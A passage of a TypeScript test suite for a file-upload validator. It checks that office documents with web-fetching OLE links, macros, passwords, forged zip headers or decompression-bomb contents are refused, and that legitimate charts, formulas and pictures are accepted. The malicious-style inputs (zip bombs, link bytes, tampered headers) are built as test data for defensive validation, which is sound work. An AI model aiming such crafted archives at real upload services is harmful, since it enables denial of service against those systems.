    it('is refused for a link to the web, or macros, in it', async () => {
      const link = Buffer.from(`01000002090000000100000000000000${'00'.repeat(8)}a4000000`, 'hex');
      expect(await refusalOf('a.docx', await holds(link, webAddress))).toMatch(/^documents that fetch/);
      expect(await refusalOf('a.docx', await holds(Buffer.alloc(63_000), link, webAddress))).toMatch(
        /^documents that fetch/,
      );
      expect(await refusalOf('a.docx', await holds(Buffer.from('_VBA_PROJECT_CUR', 'utf16le')))).toBe(
        'documents with macros are not accepted; save it without macros',
      );
    });

    it('is accepted for a table of an older Office with links in its cells', async () => {
      const [embedded, cell] = [
        Buffer.from('0100000200000000', 'hex'),
        Buffer.from('d0c9ea79f9bace118c8200aa004ba90b0200000003000000', 'hex'),
      ];
      await receive('a.docx', await holds(embedded, cell, webAddress));
    });
  });

  it('that an office program made is accepted: with charts, drawings, printers, notes, formulas', async () => {
    const svg = (head: string) =>
      `<?xml version="1.0" encoding="iso-8859-1"?>${head}<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/png;base64,${'A'.repeat(1_000_000)}"/></svg>`;
    await receive(
      'a.pptx',
      await pptx({
        'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx': await xlsx(),
        'ppt/embeddings/Microsoft_Excel_97-2003_Worksheet.xls': compoundFile,
        'ppt/embeddings/oleObject1.bin': compoundFile,
        'ppt/media/image1.svg': svg(
          '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        ),
        'ppt/media/media1.mp4': Buffer.from('\0\0\0<ftypisom\0\0\0\0', 'latin1'),
        'ppt/printerSettings/printerSettings1.bin':
          '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"/>',
      }),
    );
    await receive(
      'a.xlsx',
      await xlsx({
        'xl/worksheets/sheet1.xml': `<worksheet><c><f>SUM(Rooms[Room|Bed],'A|B'!A1)&amp;"a|b!"&amp;Sheet2!A1</f></c><t>use|it! DDE(1)</t></worksheet>`,
        'xl/drawings/vmlDrawing1.vml':
          '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><div style=\'text-align:left\'><br></div></v:shape></xml>',
        'xl/customProperty1.bin': Buffer.from('<?xml version="1.0" encoding="utf-8"?><root/>', 'utf16le'),
        'xl/printerSettings/printerSettings1.bin': Buffer.from('HP LaserJet\0', 'utf16le'),
      }),
    );
    await receive(
      'a.ods',
      await ods({
        'styles.xml':
          '<!DOCTYPE office:document-content PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "office.dtd"><office:document-content><table:table-cell table:formula="of:=SUM({1|2})+[.A1]" svg:desc="a | b! (DDE)"/></office:document-content>',
      }),
    );
  });

  it('that is a template or of two kinds is refused', async () => {
    const template = 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml';
    expect(await refusalOf('a.docx', await officeOf(template))).toBe('this kind of file is not accepted');
    const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
    expect(await refusalOf('a.docx', await docx({}, [sheet]))).toBe('this kind of file is not accepted');
    expect(
      await refusalOf('a.docx', await docx({ mimetype: 'application/vnd.oasis.opendocument.text' })),
    ).toBe(unreadable);
  });

  it('with a password is refused', async () => {
    const password = 'the document is protected by a password; save it without one';
    const manifest = { 'META-INF/manifest.xml': '<manifest:encryption-data manifest:checksum="x"/>' };
    expect(await refusalOf('a.odt', await odt(manifest))).toBe(password);
    const content = await docx();
    // Bit 0 of the flags, in the directory entry of the first part.
    content.writeUInt16LE(0x0009, content.indexOf('PK\u0001\u0002', 0, 'latin1') + 8);
    expect(await refusalOf('a.docx', content)).toBe(password);
  });

  it('that unpacks to far more than it seems is refused', async () => {
    expect(await refusalOf('a.docx', await docx({ 'word/a.xml': [' '.repeat(3_000_000)] }))).toBe(bomb);
  });

  it('that unpacks to more than 200 MB is refused, however well it is packed', async () => {
    const noise = randomBytes(1500).toString('hex');
    const page = noise + ' '.repeat(256 * 1024 - noise.length);
    function* pages() {
      for (let count = 0; count < 801; count += 1) yield page;
    }
    const content = await docx({ 'word/a.txt': pages() });
    expect(801 * page.length).toBeLessThan(200 * content.length);
    expect(await refusalOf('a.docx', content)).toBe(bomb);
  });

  it('whose headers lie about its size is refused', async () => {
    const content = await docx({ 'word/a.xml': [' '.repeat(3_000_000)] });
    const entry = content.lastIndexOf('PK\u0001\u0002', content.length, 'latin1');
    content.writeUInt32LE(100, entry + 24);
    expect(await refusalOf('a.docx', content)).toBe(unreadable);
  });

  it('of more than 5,000 parts is refused', async () => {
    const parts = Array.from({ length: 5000 }, (_, index) => [`word/${index}.xml`, ''] as const);
    expect(await refusalOf('a.docx', await docx(Object.fromEntries(parts)))).toBe(bomb);
  });

  it('with two parts of one name is refused', async () => {
    const content = await docx({ 'word/1.xml': 'a', 'word/2.xml': 'b' });
    const renamed = Buffer.from(content.toString('latin1').replaceAll('word/2.xml', 'word/1.xml'), 'latin1');
    expect(await refusalOf('a.docx', renamed)).toBe(unreadable);
  });

  it('that is damaged is refused', async () => {
    const content = await docx();
    expect(await refusalOf('a.docx', content.subarray(0, content.length - 30))).toBe(unreadable);
  });
});

describe('a picture', () => {
  it('of HEIC is refused where nothing decodes it, and the sender learns what to do', async () => {
    expect(await refusalOf('IMG_0042.HEIC', await heic())).toBe(
      'HEIC pictures cannot be read here; save it as JPEG',
    );
  });

  it('under the ending of another kind of picture gets its own', async () => {
    const png = await picture(30, 20).png().toBuffer();
    expect(await receive('scan.jpg', png)).toMatchObject({ name: 'scan.png', type: 'image/png' });
  });

  it('that cannot be read is refused', async () => {
    const jpeg = await picture(300, 200).jpeg().toBuffer();
    expect(await refusalOf('photo.jpg', jpeg.subarray(0, jpeg.length / 2))).toBe(
      'the picture cannot be read',
    );
    const png = await picture(30, 20).png().toBuffer();
    png.fill(0, 60, 200);
    expect(await refusalOf('photo.png', png)).toBe('the picture cannot be read');
  });

  it('leaves one temporary file, of what is stored', async () => {
    const received = await receive('photo.jpg', await picture(300, 200).jpeg().toBuffer());
    const content = await readFile(received.tempPath);
    expect(await readdir(temporaryFolder)).toHaveLength(1);
    expect(received.size).toBe(content.length);
    expect(received.sha256).toBe(createHash('sha256').update(content).digest('hex'));
  });
});

describe('a sender who goes away', () => {
  it('leaves no temporary file', async () => {
    async function* broken() {
      yield Buffer.alloc(100_000, 'a');
      throw new Error('aborted');
    }
    const received = receiveFile(Readable.from(broken()), {
      name: 'a.txt',
      maxBytes,
      temporaryFolder,
      reserve: 0,
    });
    await expect(received).rejects.toThrow('aborted');
    expect(await readdir(temporaryFolder)).toEqual([]);
  });
});
